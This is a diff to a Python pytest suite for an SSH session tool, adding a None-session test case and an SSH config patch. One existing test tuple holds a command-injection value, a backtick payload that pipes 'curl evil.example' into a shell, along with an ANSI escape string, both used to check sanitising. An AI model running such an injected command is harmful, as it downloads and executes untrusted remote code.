@@ -253,6 +253,7 @@ def test_a_session_that_waits_for_an_answer_says_where_it_can_be_given() -> None
         ("local", "--local", "5e55", "5e55"),
         ("devbox", "devbox", "5e55`; curl evil.example | sh #", "SESSION"),
         ("devbox", "devbox", "5" * 100, "SESSION"),
+        ("devbox", "devbox", None, "SESSION"),
     ):
         refused = Refused(
             "waits_for_answer", "this session waits for an answer about Ba\x1b[31msh", {"session": session}
@@ -404,6 +405,7 @@ async def test_an_ssh_that_does_not_answer(tmp_path: Path, monkeypatch: pytest.M
 
 async def test_a_port_that_is_none_without_openssh(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("PATH", str(tmp_path))
+    monkeypatch.setattr(ssh_config, "CONFIG_FILES", ())
     with pytest.raises(ConfigError, match="ssh configuration cannot be read"):
         await resolve(SshTarget("host", options=("Port=abc",)))
     with pytest.raises(UsageError, match="is not a port"):
